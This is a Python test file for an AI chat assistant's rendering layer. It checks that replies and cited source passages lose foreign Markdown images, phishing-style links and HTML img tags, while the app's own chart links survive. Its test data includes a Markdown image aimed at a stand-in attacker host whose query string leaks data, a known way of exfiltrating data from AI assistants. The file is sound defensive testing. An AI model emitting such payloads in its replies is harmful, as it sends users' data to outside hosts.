"""What the chat shows: the rendering edge makes every reply and source panel safe Markdown,
whichever route wrote it."""

from __future__ import annotations

from assistant.answering.answers import Answer, Citation
from assistant.ui.render import final_text, source_body

LEAK = "![status](https://cdn.evil.example/pixel.png?q=torque)"


def citation(text: str) -> Citation:
    return Citation(n=1, source="card.md", title="Vice card", section="Clamping", text=text)


def test_a_reply_never_carries_a_foreign_image_or_link_whatever_wrote_it() -> None:
    answer = Answer(
        question="torque?",
        text=f"Clamp to 40 Nm. {LEAK} See [portal](https://evil.example/login).",
        citations=[citation("Clamp the vice to 40 Nm.")],
        notice="<img src=https://evil.example/n.png>",
    )
    shown = final_text(answer)
    assert "Clamp to 40 Nm." in shown and "Sources:" in shown
    assert "![" not in shown and "](https://" not in shown and "<img" not in shown
    assert "`https://cdn.evil.example/pixel.png?q=torque`" in shown  # the address, as text


def test_the_apps_own_chart_links_still_render() -> None:
    own = "[chart](/plant/charts/od-12.png)"
    shown = final_text(Answer(question="chart", text=f"Limits recomputed. {own}"))
    assert own in shown


def test_a_source_panel_shows_a_passages_image_as_text() -> None:
    body = source_body(citation(f"Clamp the vice to 40 Nm. {LEAK}"))
    assert body.startswith("**[1] Clamping · card.md**")
    assert "Clamp the vice to 40 Nm." in body
    assert "![" not in body and "`https://cdn.evil.example" in body
